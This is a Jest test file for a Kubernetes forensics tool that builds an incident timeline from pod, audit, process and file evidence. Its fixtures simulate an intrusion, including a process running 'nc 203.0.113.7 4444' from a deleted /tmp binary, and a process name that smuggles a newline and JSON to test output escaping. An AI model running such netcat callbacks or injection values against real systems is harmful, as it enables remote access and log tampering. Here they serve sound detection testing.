// The artifacts' dated facts in the one timeline: each source's entries, in order, bounded with a
// visible notice, and timeline.jsonl with exactly the documented fields.
import { describe, expect, test } from '@jest/globals';
import { parseSpec } from '../../../src/api/investigation.js';
import { emptyFacts, MAX_FACTS_PER_SOURCE, type CaseFacts } from '../../../src/report/facts.js';
import { buildTimeline, timelineJsonl, type TimelineSource } from '../../../src/report/timeline.js';

const spec = (() => {
  const r = parseSpec({ target: { pod: 'web-1' }, alert: { source: 'falco', rule: 'Terminal shell in container', priority: 'Critical', time: '2026-11-20T10:06:00Z' } });
  if (!r.ok) throw new Error(r.message);
  return r.spec;
})();
const source = (facts: CaseFacts): TimelineSource => ({ spec, findings: [], conditions: [], facts });

const facts: CaseFacts = {
  ...emptyFacts(),
  pod: {
    name: 'web-1', createdAt: '2026-11-20T09:00:00Z', startTime: '2026-11-20T09:00:01Z',
    runs: [
      { container: 'app', kind: 'container', instance: 'previous', startedAt: '2026-11-20T09:00:02Z', finishedAt: '2026-11-20T09:59:58Z', reason: 'Error', exitCode: 137 },
      { container: 'app', kind: 'container', instance: 'current', startedAt: '2026-11-20T10:00:00Z', restartCount: 1 },
    ],
  },
  events: [{ time: '2026-11-20T09:59:59Z', type: 'Warning', reason: 'BackOff', message: 'Back-off restarting', object: 'Pod/web-1' }],
  processes: [{ pid: 42, time: '2026-11-20T10:05:00Z', role: 'target', command: 'nc 203.0.113.7 4444', exe: '/tmp/kworkerd (deleted)', exeDeleted: true, inEntrypointTree: false, artifact: 'live/processes.json' }],
  files: [{ path: '/tmp/kworkerd', stamp: 'ctime', time: '2026-11-20T10:05:01Z', type: 'file', artifact: 'live/files.json' }],
  omitted: { process: 0, file: 4800 },
  audit: {
    pod: { artifact: 'audit/pod-requests.jsonl', total: 1, byRequest: [], records: [{ time: '2026-11-20T10:04:50Z', user: { username: 'alice' }, verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1', code: 101, sourceIPs: ['10.0.0.9'] }] },
  },
};

describe('the timeline of the artifacts', () => {
  test('every source in time order, each entry pointing at its artifact; the intrusion marked suspicious', () => {
    const timeline = buildTimeline(source(facts));
    expect(timeline.map((e) => [e.time, e.source, e.what, e.artifact])).toEqual([
      ['2026-11-20T09:00:00.000Z', 'pod', 'pod created', 'k8s/pod.yaml'],
      ['2026-11-20T09:00:01.000Z', 'pod', 'pod started (accepted by the kubelet)', 'k8s/pod.yaml'],
      ['2026-11-20T09:00:02.000Z', 'container', 'container app (previous instance) started', 'k8s/pod.yaml'],
      ['2026-11-20T09:59:58.000Z', 'container', 'container app (previous instance) terminated (Error, exit code 137)', 'k8s/pod.yaml'],
      ['2026-11-20T09:59:59.000Z', 'event', 'Warning BackOff: Back-off restarting', 'k8s/events.json'],
      ['2026-11-20T10:00:00.000Z', 'container', 'container app started; restarted 1 time(s)', 'k8s/pod.yaml'],
      ['2026-11-20T10:04:50.000Z', 'audit', 'alice create pods/exec shop/web-1 -> 101 from 10.0.0.9', 'audit/pod-requests.jsonl'],
      ['2026-11-20T10:05:00.000Z', 'process', "process started: nc 203.0.113.7 4444 (exe /tmp/kworkerd (deleted)) [executable deleted; outside the entrypoint's tree]", 'live/processes.json'],
      ['2026-11-20T10:05:01.000Z', 'file', 'file /tmp/kworkerd inode last changed (ctime)', 'live/files.json'],
      ['2026-11-20T10:05:01.000Z', 'file', '4800 more file change(s), older than these, not listed here', 'live/files.json'],
      ['2026-11-20T10:06:00.000Z', 'alert', 'alert raised (Critical): Terminal shell in container', 'alert.json'],
    ]);
    expect(timeline.filter((e) => e.suspicious).map((e) => e.source)).toEqual(['audit', 'process']);
  });

  test('a source past its cap keeps its most recent entries and says how many earlier ones are left out', () => {
    const events = Array.from({ length: MAX_FACTS_PER_SOURCE + 50 }, (_, i) => ({ time: new Date(Date.UTC(2026, 10, 20, 10) + i * 1000).toISOString(), reason: `E${i}`, message: 'm' }));
    const timeline = buildTimeline(source({ ...emptyFacts(), events }));
    const listed = timeline.filter((e) => e.source === 'event');
    expect(listed).toHaveLength(MAX_FACTS_PER_SOURCE + 1);
    expect(listed.some((e) => e.what.startsWith('Event E49:'))).toBe(false);
    expect(listed.some((e) => e.what.startsWith('Event E50:'))).toBe(true);
    expect(listed.find((e) => e.omission)).toMatchObject({ what: `50 earlier event entries not listed here (the timeline keeps the ${MAX_FACTS_PER_SOURCE} most recent)`, artifact: 'k8s/events.json', time: events[49]!.time });
  });

  test('timeline.jsonl: one entry a line, in order, with only the documented fields', () => {
    const timeline = buildTimeline(source(facts));
    const lines = timelineJsonl(timeline).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(timeline.length);
    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    for (const p of parsed) expect(Object.keys(p).every((k) => ['time', 'source', 'what', 'artifact', 'subject'].includes(k))).toBe(true);
    expect(parsed[6]).toEqual({ time: '2026-11-20T10:04:50.000Z', source: 'audit', what: 'alice create pods/exec shop/web-1 -> 101 from 10.0.0.9', artifact: 'audit/pod-requests.jsonl', subject: 'alice' });
    // A newline in a suspect's process name stays inside its JSON string.
    const hostile = buildTimeline(source({ ...emptyFacts(), processes: [{ pid: 1, time: '2026-11-20T10:00:00Z', command: 'evil\n{"time":"x"}', artifact: 'live/processes.json' }] }));
    expect(timelineJsonl(hostile).split('\n')).toHaveLength(hostile.length + 1);
  });

  test("casefile's own requests (its debug container's exec) are not the intrusion", () => {
    const op = { username: 'system:serviceaccount:casefile-system:casefile-operator' };
    const own = { time: '2026-11-20T10:03:00Z', user: op, verb: 'create', resource: 'pods', subresource: 'exec', name: 'web-1', requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?container=casefile-debug-0a1b2c3d&command=node' };
    const patch = { time: '2026-11-20T10:02:00Z', user: op, verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', name: 'web-1' };
    const withOwn: CaseFacts = { ...facts, audit: { pod: { ...facts.audit!.pod!, total: 3, records: [patch, own, ...facts.audit!.pod!.records] } } };
    const suspicious = buildTimeline(source(withOwn)).filter((e) => e.suspicious);
    expect(suspicious.map((e) => e.subject)).toEqual(['alice', 'pid 42']);
  });
});
